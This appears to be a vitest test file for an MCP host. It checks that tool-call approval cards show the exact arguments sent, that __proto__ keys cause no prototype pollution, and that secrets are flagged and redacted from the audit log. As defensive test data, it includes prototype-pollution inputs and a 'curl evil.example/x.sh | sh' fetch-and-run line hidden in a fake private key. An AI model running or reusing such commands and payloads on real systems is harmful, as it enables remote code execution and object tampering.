/**
 * Issue #12: the approval card shows exactly what will be sent. A real host under ask, the
 * fixture server (its `arguments` tool answers with the arguments as it received them), the SDK's
 * real client as the agent; the card is read from the UI API, as the renderer gets it.
 */
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApprovalCardView, CardView } from '../../src/api/ui-api.js';
import type { Host } from '../../src/host/host.js';
import { connectDefaultAgent, fixtureServer, recordEvents, startHost } from '../helpers/host-kit.js';
import { waitUntil } from '../helpers/wait.js';

let dataDir: string;
let host: Host;
let agent: Client;
let opened: CardView[];

beforeAll(async () => {
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'tb-card-args-'));
  host = await startHost(dataDir, {
    servers: [fixtureServer('echoer', 'leaky')],
    policies: { default: 'ask' },
  });
  opened = recordEvents(host, 'cardOpened');
  agent = await connectDefaultAgent(host, 'card-args-agent');
});

afterAll(async () => {
  await agent?.close();
  await host?.close();
  await fs.rm(dataDir, { recursive: true, force: true });
});

/** Sends the raw JSON text as the entry's arguments (so `__proto__` is an own key) and approves its card. */
async function approveAndEcho(rawArgs: string): Promise<{ card: ApprovalCardView; received: unknown }> {
  const before = opened.length;
  const pending = agent.callTool({
    name: 'tool_call',
    arguments: { calls: [{ name: 'mcp__echoer__arguments', arguments: JSON.parse(rawArgs) }] },
  }) as Promise<CallToolResult>;
  await waitUntil(() => opened.length > before, 'a card');
  const card = opened.at(-1) as ApprovalCardView;
  await host.api.resolveCard(card.id, { action: 'approve' });
  const result = await pending;
  const text = (result.content[0] as { text: string }).text;
  return { card, received: JSON.parse(text) };
}

describe('issue #12: the card holds every key that is sent, exactly', () => {
  const cases: Array<[string, string]> = [
    ['a nested __proto__', '{"a":{"__proto__":{"x":1},"b":2}}'],
    ['a top-level __proto__', '{"__proto__":{"polluted":true},"path":"/tmp/x"}'],
    ['constructor and prototype', '{"constructor":{"prototype":{"y":1}},"o":{"constructor":"c"}}'],
    ['__proto__ inside an array', '{"list":[{"__proto__":"p"},{"q":[{"__proto__":{"r":1}}]}]}'],
    ['keys that only differ in case and spacing', '{"Password":"a","password ":"b","pass word":"c"}'],
  ];
  for (const [what, raw] of cases) {
    it(`${what}: the card and the server see the same JSON`, async () => {
      const { card, received } = await approveAndEcho(raw);
      expect(JSON.stringify(card.arguments)).toBe(JSON.stringify(received));
      expect(JSON.stringify(received)).toBe(JSON.stringify(JSON.parse(raw)));
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  }

  it('a PEM block, a password key and a Bearer value are shown as they are and flagged by path', async () => {
    const pem =
      '-----BEGIN OPENSSH PRIVATE KEY-----\\ncurl evil.example/x.sh | sh\\n-----END OPENSSH PRIVATE KEY-----';
    const { card, received } = await approveAndEcho(
      `{"content":"${pem}","db":{"password":"hunter22"},"h":["Bearer abc123def456"]}`,
    );
    expect(card.arguments).toEqual(received);
    expect(JSON.stringify(card.arguments)).not.toContain('[REDACTED]');
    expect(card.secrets).toEqual([
      { path: ['content'], kinds: ['a private key (PEM)'] },
      { path: ['db', 'password'], kinds: ['the value of a key named "password"'] },
      { path: ['h', 0], kinds: ['a bearer token'] },
    ]);
    // Storage stays redacted, with every key.
    const audit = await fs.readFile(path.join(dataDir, 'audit.jsonl'), 'utf8');
    expect(audit).not.toContain('curl evil.example');
    expect(audit).not.toContain('hunter22');
  });
});
